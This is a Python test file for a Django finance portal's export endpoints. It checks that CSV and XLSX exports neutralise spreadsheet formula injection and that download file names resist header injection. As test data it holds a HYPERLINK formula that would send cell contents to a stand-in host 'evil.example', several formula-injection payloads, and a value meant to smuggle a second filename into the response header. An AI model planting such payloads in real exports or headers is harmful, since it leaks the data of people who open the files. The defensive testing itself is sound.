"""Issue 16 #4 and #5: exports never carry a live formula, and export file names are safe.

Remote text (a platform order number from the storefront, a material number from Kingdee, a
note) that starts with = + - @, a tab or a carriage return is written with a leading single
quote in every csv and xlsx the portal produces (core.exports.neutralise); numbers stay
numbers. The `so` of the K2 export never shapes the Content-Disposition header, and a NUL in it
is a clear 400, not a 500."""

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from flows.choices import DocumentState as S
from flows.choices import FlowCode
from flows.models import Flow, SyncDocument
from flows.tasks import flow_run

pytestmark = pytest.mark.django_db(transaction=True)

EVIL_SO = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
# (NUL, also neutralised, cannot be stored by PostgreSQL: tests/core/test_exports.py has it)
PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _no_formula_cells(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture
def finance_user(django_user_model):
    from django.contrib.auth.models import Group

    from core.roles import Role

    user = django_user_model.objects.create_user("fin-export", is_staff=True)
    user.groups.set([Group.objects.get(name=Role.FINANCE)])
    return user


def test_k2_export_neutralises_a_formula_order_number_and_keeps_file_names_safe(
    demo_integration, storefront, celery_worker, wait_until, client, finance_user
):
    """Issue 16 #4/#5 (K2): GIVEN an order whose platform order number is a HYPERLINK formula,
    shipped and synced to Kingdee WHEN finance downloads the K2 chain as xlsx and csv THEN the
    cell holds the text with a leading quote (no formula cell in the workbook, the csv cell
    starts with a quote) and the declared values are still numbers; WHEN `so` tries to add a
    second file name THEN the header holds one safe file name; WHEN `so` holds a NUL THEN the
    answer is a 400 naming the parameter."""
    storefront.place_and_ship(
        storefront.order(
            so_id=EVIL_SO, shop_id=10001, currency="USD", lines=[("SKU-PB-1001", 1, "29.99")]
        )
    )
    flow = Flow.objects.get(integration=demo_integration, code=FlowCode.SALES_OUTBOUND)
    flow_run.delay(flow.pk)
    wait_until(lambda: SyncDocument.objects.filter(flow=flow, state=S.SYNCED).exists(), 60)
    client.force_login(finance_user)
    query = {"so": EVIL_SO, "integration": demo_integration.pk}

    xlsx = client.get("/finance/export-chain/", {**query, "format": "xlsx"})
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    assert _no_formula_cells(book) == []
    sheet = book.worksheets[2]  # Consumer sales (issue 21: the chain starts from declarations)
    header = [c.value for c in sheet[1]]
    assert sheet.max_row == 2, "the order is on the consumer-sales sheet"
    row = [c.value for c in sheet[2]]
    assert row[0] == "'" + EVIL_SO
    assert any(isinstance(v, int | float) and v > 0 for v in row), (header, row)

    table = _csv(client.get("/finance/export-chain/", {**query, "format": "csv"}).content)
    assert [r[0] for r in table if r and r[0].endswith(EVIL_SO)] == ["'" + EVIL_SO]

    safe = re.compile(r'attachment; filename="[\w.\-]+"')
    assert safe.fullmatch(xlsx["Content-Disposition"]), xlsx["Content-Disposition"]
    sneaky = client.get(
        "/finance/export-chain/",
        {**query, "so": 'a"; filename="evil.html', "format": "csv"},
    )
    assert sneaky.status_code == 200
    assert safe.fullmatch(sneaky["Content-Disposition"]), sneaky["Content-Disposition"]
    assert sneaky["Content-Disposition"].endswith('.csv"')

    nul = client.get("/finance/export-chain/", {**query, "so": "\x00", "format": "csv"})
    assert nul.status_code == 400
    assert b"so" in nul.content


def test_reconciliation_export_neutralises_remote_text(
    make_integration, client, finance_user, settings
):
    """Issue 16 #4 (K1): GIVEN mismatches whose material number, SKU and note (remote text)
    start with = + - @, tab and CR WHEN finance downloads them as csv and xlsx THEN every such
    cell starts with a quote, no workbook cell is a formula, and the quantities stay numbers."""
    from finance.models import ReconciliationLine, ReconciliationRun

    settings.LANGUAGE_CODE = "en"
    run = ReconciliationRun.objects.create(integration=make_integration("recon"))
    for n, payload in enumerate(PAYLOADS):
        ReconciliationLine.objects.create(
            run=run,
            material_number=payload,
            sku_id=payload,
            stock_number=f"CK{n:02d}",
            wms_co_id="1",
            wh_id=1,
            kingdee_qty=Decimal("5"),
            jushuitan_qty=Decimal("-3"),
            difference=Decimal("-8"),
            matched=False,
            note=payload,
        )
    client.force_login(finance_user)

    table = _csv(client.get(f"/finance/reconciliation/{run.pk}/mismatches.csv").content)
    start = next(n for n, r in enumerate(table) if r[:2] == ["material", "SKU"])
    body = table[start + 1 :]  # after the run's figures (issue 21)
    assert len(body) == len(PAYLOADS)
    for row in body:
        assert row[0].startswith("'") and row[1].startswith("'") and row[-1].startswith("'")
        assert row[0][1:] in PAYLOADS
        assert Decimal(row[6]) == Decimal("-3")  # a negative number is a number, not text

    answer = client.get(f"/finance/reconciliation/{run.pk}/mismatches.xlsx")
    assert answer["Content-Disposition"] == (
        f'attachment; filename="reconciliation-{run.pk}-mismatches.xlsx"'
    )
    book = load_workbook(io.BytesIO(answer.content))
    assert _no_formula_cells(book) == []
    rows = list(book.worksheets[1].iter_rows(min_row=2, values_only=True))  # Mismatches
    # (xlsx stores a CR as a line feed: compare with that in mind)
    assert sorted(r[0] for r in rows) == sorted("'" + p.replace("\r", "\n") for p in PAYLOADS)
    assert all(r[6] == -3 for r in rows)
